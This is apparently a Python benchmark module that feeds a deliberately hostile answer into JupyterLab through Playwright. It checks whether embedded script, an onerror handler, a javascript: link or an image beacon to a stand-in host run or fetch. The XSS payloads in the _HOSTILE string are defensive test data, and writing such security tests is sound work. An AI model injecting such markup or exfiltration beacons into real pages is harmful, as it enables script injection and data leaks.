"""What an answer may do in JupyterLab's page, in a real browser: run script, lead to it, or fetch from elsewhere."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import nbformat
from playwright.sync_api import sync_playwright

from benchmarks.child import environment
from benchmarks.comparison.environments import kernel_environment, python_of
from benchmarks.comparison.tools import Tool
from cometnb.client.server import LocalServer
from tests.browser.lab import BROWSER_FLAGS, LabServer, NotebookPage, running_lab, write_notebook
from tests.needs import chromium

__all__ = ["may_do"]

_ELSEWHERE = "leak.invalid"
_END = "the end of the answer"
_HOSTILE = (
    'A picture <img src="x" onerror="window.hacked=1"> and a script <script>window.ran=1</script> and'
    f" [a link](javascript:window.pressed=1) and ![a pixel](https://{_ELSEWHERE}/?secret) and {_END}."
)
_ACTED = """() => ({
  handler: window.hacked === 1,
  script: window.ran === 1,
  links: document.querySelectorAll(".jp-OutputArea a[href^='javascript:']").length,
})"""
_SETTLED_MS = 1_500


def may_do(tool: Tool, folder: Path, server: LocalServer) -> str:
    """Have a hostile answer shown in JupyterLab, and return what it did there and what the saved file holds.

    Parameters
    ----------
    tool : Tool
    folder : Path
        Of the environments.
    server : LocalServer
        Its engine is told the answer.
    """
    engine = server.engine
    engine.text, engine.tokens_per_s, engine.fault = _HOSTILE, 60, None
    with tempfile.TemporaryDirectory() as home, _lab(tool, folder, server.base_url, Path(home)) as lab:
        file = lab.folder / "compared.ipynb"
        before = "\n".join(tool.cell(cell, server.base_url) for cell in (tool.load, tool.connect))
        write_notebook(file, [before, tool.cell(tool.ask, server.base_url)])
        _run_with(file, tool.slug)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium(), args=list(BROWSER_FLAGS))
            page = NotebookPage(browser.new_page(), lab, file)
            fetched: list[str] = []
            page.page.on("request", lambda request: fetched.append(request.url))
            page.open()
            page.run_cell(0)
            page.run_cell(1)
            page.wait_text(1, _END)
            page.page.wait_for_timeout(_SETTLED_MS)
            acted = page.page.evaluate(_ACTED)
            n_fetched = sum(_ELSEWHERE in url for url in fetched)
            page.save()
            saved = page.saved()
            page.close()
            browser.close()
    return (
        f"an event handler ran: {acted['handler']}, a script ran: {acted['script']},"
        f" javascript: links: {acted['links']}, fetched from elsewhere: {n_fetched} times;"
        f" {_held(saved)}"
    )


def _held(saved: nbformat.NotebookNode) -> str:
    outputs = saved.cells[1].outputs
    mimes = [sorted(output.get("data", {output.get("name", "error"): ""})) for output in outputs]
    return f"saved outputs: {mimes}, widget state: {'widgets' in saved.metadata}"


def _run_with(file: Path, kernel: str) -> None:
    notebook = nbformat.read(file, as_version=4)
    notebook.metadata.kernelspec.name = kernel
    nbformat.write(notebook, file)


@contextmanager
def _lab(tool: Tool, folder: Path, base_url: str, home: Path) -> Iterator[LabServer]:
    """Start JupyterLab with a home of its own and, as one of its kernels, the tool's interpreter."""
    places = ("HOME", "IPYTHONDIR", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR")
    homes = {name: home / name.lower() for name in (*places, "notebooks")}
    for made in homes.values():
        made.mkdir()
    settings = kernel_environment(tool, base_url, home)
    settings.pop("JPY_SESSION_NAME")
    kernel = {
        "argv": [str(python_of(tool, folder)), "-m", "ipykernel_launcher", "-f", "{connection_file}"],
        "display_name": tool.name,
        "language": "python",
        "env": settings,
    }
    spec = homes["JUPYTER_DATA_DIR"] / "kernels" / tool.slug / "kernel.json"
    spec.parent.mkdir(parents=True)
    spec.write_text(json.dumps(kernel), "utf-8")
    env = environment() | {name: str(homes[name]) for name in places}
    with running_lab(homes["notebooks"], env) as lab:
        yield lab
